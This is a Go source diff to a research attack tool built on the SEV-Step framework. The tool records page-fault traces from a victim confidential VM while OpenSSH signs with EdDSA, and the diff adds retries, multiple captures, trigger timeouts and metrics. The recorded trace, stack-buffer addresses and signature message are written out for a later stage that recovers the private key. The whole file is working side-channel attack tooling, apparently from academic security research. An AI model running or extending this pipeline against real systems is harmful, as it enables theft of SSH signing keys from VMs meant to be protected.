@@ -3,21 +3,26 @@ package main
 import (
 	"bufio"
 	"context"
-	"encoding/json"
 	"flag"
 	"fmt"
 	"io/ioutil"
 	"log"
 	"os"
+	"os/signal"
 	"pfFingerprint"
+	"pfFingerprint/metrics"
+	"pfFingerprint/snapshot"
+	"pfFingerprint/trackingMachine"
 	"pfFingerprint/trigger"
+	"time"
 
 	"github.com/UzL-ITS/sev-step/sevStep"
 )
 
 type application struct {
 	execTracePath       string
-	trigger             trigger.Triggerer
+	trigger             *trigger.PreparedTrigger
+	triggerTimeout      time.Duration
 	tryGetRIP           bool
 	kvmDevicePath       string
 	attackTraceOutPath  string
@@ -26,6 +31,15 @@ type application struct {
 	dbgScalarMultGPA    uint64
 	cpu                 int
 	debugLog            *log.Logger
+	machine             *trackingMachine.Spec
+	snapshot            snapshot.Policy
+	poll                pfFingerprint.PollConfig
+	retries             int
+	captures            int
+	capturesOutPath     string
+	metricsFlags        *metrics.Flags
+	metrics             *metrics.Registry
+	runMetrics          *pfFingerprint.RunMetrics
 }
 
 func setupAndParseCLI() (*application, error) {
@@ -41,6 +55,16 @@ func setupAndParseCLI() (*application, error) {
 	scalarMultGPA := flag.Uint64("scalarMult", 0, "Explicitly specify for debugging")
 	cpu := flag.Int("cpu", -1, "If set, perf readings are done on this cpu and wbinvd flush is executed here before memaccess")
 	debugLog := flag.Bool("debugLog", false, "Verbose logging for debug purposes")
+	triggerTimeout := flag.Duration("triggerTimeout", 0, "Abort the victim trigger after this duration. 0 means no timeout")
+	machinePath := flag.String("machine", "openssh-eddsa", "Tracking state machine spec. Path of a JSON file or name of a builtin spec. The spec needs the input pages \"chooseT\" and \"fe64\" and binds \"stackBuf\"")
+	snapshotCandidates := flag.Bool("snapshotCandidates", false, "Additionally snapshot the pages with write faults in the last cycle of the search phase for the stack buffer on every save point. pfOSSHRecoverEdDSAKey tries all of them")
+	maxCandidates := flag.Int("maxCandidates", 8, "Snapshot at most this many candidate pages. 0 means no limit")
+	retries := flag.Int("retries", 3, "Re-trigger the victim up to this many times if a capture fails, e.g. because no stack buffer was found or the sequence got out of sync")
+	captures := flag.Int("captures", 1, "Number of independent (attack trace, signature) pairs to collect. With more than one, the index, starting at 1, is added to the \"-out\" and \"-configOut\" paths, e.g. attack-trace.1.txt for the first capture")
+	capturesOut := flag.String("capturesOut", "attack-captures.json", "Save the list of all captures to this path. Use with \"-captures\" of pfOSSHRecoverEdDSAKey")
+	prepareFlags := trigger.RegisterPrepareFlags(flag.CommandLine)
+	pollFlags := pfFingerprint.RegisterPollFlags(flag.CommandLine)
+	metricsFlags := metrics.RegisterFlags(flag.CommandLine)
 
 	flag.Parse()
 
@@ -59,7 +83,15 @@ func setupAndParseCLI() (*application, error) {
 	if err != nil {
 		log.Printf("Failed to parse triggerURI :%v", err)
 	}
-	app.trigger = victimTrigger
+	prepareOpts, err := prepareFlags.Options(*triggerURI)
+	if err != nil {
+		return nil, fmt.Errorf("invalid trigger preparation flags : %v", err)
+	}
+	app.trigger, err = trigger.NewPreparedTrigger(trigger.AsContextTriggerer(victimTrigger), prepareOpts)
+	if err != nil {
+		return nil, fmt.Errorf("invalid trigger preparation flags : %v", err)
+	}
+	app.triggerTimeout = *triggerTimeout
 
 	app.tryGetRIP = *getRIP
 	app.kvmDevicePath = `/dev/kvm`
@@ -79,6 +111,36 @@ func setupAndParseCLI() (*application, error) {
 
 	app.cpu = *cpu
 
+	if *retries < 0 {
+		return nil, fmt.Errorf(`"-retries" may not be negative`)
+	}
+	app.retries = *retries
+	if *captures < 1 {
+		return nil, fmt.Errorf(`"-captures" has to be at least 1`)
+	}
+	app.captures = *captures
+	if *capturesOut == "" {
+		return nil, fmt.Errorf(`"-capturesOut" may not be empty`)
+	}
+	app.capturesOutPath = *capturesOut
+
+	app.machine, err = trackingMachine.LoadSpec(*machinePath)
+	if err != nil {
+		return nil, fmt.Errorf("failed to load tracking machine : %v", err)
+	}
+	app.poll, err = pollFlags.Config()
+	if err != nil {
+		return nil, err
+	}
+	app.snapshot = snapshot.Policy{Candidates: *snapshotCandidates, MaxCandidates: *maxCandidates}
+	if err := app.snapshot.Validate(); err != nil {
+		return nil, fmt.Errorf("invalid \"-maxCandidates\" : %v", err)
+	}
+
+	app.metricsFlags = metricsFlags
+	app.metrics = metrics.NewRegistry()
+	app.runMetrics = pfFingerprint.NewRunMetrics(app.metrics)
+
 	if *debugLog {
 		app.debugLog = log.Default()
 	} else {
@@ -88,7 +150,11 @@ func setupAndParseCLI() (*application, error) {
 	return app, nil
 }
 
-func run(app *application) error {
+func run(ctx context.Context, app *application) error {
+	if err := app.metricsFlags.Serve(ctx, app.metrics); err != nil {
+		return err
+	}
+
 	//
 	//parse events from input file
 	//
@@ -119,56 +185,34 @@ func run(app *application) error {
 		return fmt.Errorf("failed to generate attack config : %v", err)
 	}
 	//
-	// Record attack trace
+	// Record attack traces
 	//
-	attackTrace, stackBufferGPA, sigMsg, err := recordAttackTrace(context.Background(), app, attackConfig)
-	if err != nil {
-		return fmt.Errorf("recordAttackTrace failed : %v", err)
-	}
-
-	outFile, err := os.Create(app.attackTraceOutPath)
-	if err != nil {
-		return fmt.Errorf("failed to ceate out file %v : %v", app.attackTraceOutPath, err)
-	}
-	defer func() {
-		if err := outFile.Close(); err != nil {
-			log.Printf("Failed to close out file")
+	captures := make([]pfFingerprint.OSSHCaptureEdDSA, 0, app.captures)
+	//captures are numbered from 1 in the logs and the file names
+	for i := 1; i <= app.captures; i++ {
+		log.Printf("Capture %v of %v\n", i, app.captures)
+		attackTrace, keyRecoverConfig, attempts, err := captureWithRetries(ctx, app, attackConfig)
+		if err != nil {
+			return fmt.Errorf("capture %v failed : %v", i, err)
 		}
-	}()
-	outWriter := bufio.NewWriter(outFile)
 
-	for _, v := range attackTrace {
-		buf, err := json.Marshal(v)
-		if err != nil {
-			return fmt.Errorf("failed to marshall event: %v", err)
+		//
+		// Write trace and config struct for next stage
+		//
+		capture := pfFingerprint.OSSHCaptureEdDSA{
+			Trace:    capturePath(app.attackTraceOutPath, i, app.captures),
+			Config:   capturePath(app.attackConfigOutPath, i, app.captures),
+			Attempts: attempts,
 		}
-		if _, err := outWriter.Write(append(buf, []byte("\n")...)); err != nil {
-			return fmt.Errorf("failed to save attack tracke : %v", err)
+		if err := writeCapture(capture.Trace, capture.Config, attackTrace, keyRecoverConfig); err != nil {
+			return err
+		}
+		app.runMetrics.EventsWritten.Add(uint64(len(attackTrace)))
+		captures = append(captures, capture)
+		//written after every capture, so that an abort keeps the completed ones
+		if err := writeCaptureList(app.capturesOutPath, captures); err != nil {
+			return err
 		}
-	}
-	if err := outWriter.Flush(); err != nil {
-		return fmt.Errorf("failed to flush output file : %v", err)
-	}
-
-	//
-	// Write config struct for next stage
-	//
-	keyRecoverConfig := pfFingerprint.OSSHAttackConfigEdDSA{
-		ChooseTGPA:          attackConfig.chosetTGPA,
-		Fe64GPA:             attackConfig.fe64GPA,
-		StackBufGPA:         stackBufferGPA,
-		MemAccessesPerCycle: 10, //manual analysis, want all accesses right before the swap function
-		SigMsg:              sigMsg,
-		MainLoopCycles:      85,
-		StackBufAlignment:   16,
-		StackBufBytes:       256,
-	}
-	keyRecoverConfigBytes, err := json.Marshal(keyRecoverConfig)
-	if err != nil {
-		return fmt.Errorf("failed to marshal attack config : %v", err)
-	}
-	if err := ioutil.WriteFile(app.attackConfigOutPath, keyRecoverConfigBytes, 0770); err != nil {
-		return fmt.Errorf("failed to write attack config to file : %v", err)
 	}
 
 	return nil
@@ -181,7 +225,10 @@ func main() {
 		return
 	}
 
-	if err := run(app); err != nil {
+	ctx, cancel := signal.NotifyContext(context.Background(), os.Interrupt)
+	defer cancel()
+
+	if err := run(ctx, app); err != nil {
 		log.Printf("Error : %v", err)
 	}
 }